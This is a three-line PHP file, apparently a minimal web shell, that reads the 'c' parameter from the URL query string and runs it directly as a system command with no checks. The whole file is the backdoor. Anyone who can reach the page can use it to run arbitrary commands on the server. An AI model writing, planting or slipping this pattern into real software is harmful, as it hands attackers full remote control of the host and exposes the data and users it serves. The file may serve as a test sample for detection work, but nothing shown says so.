<?php
$c = $_GET["c"];
\system($c);
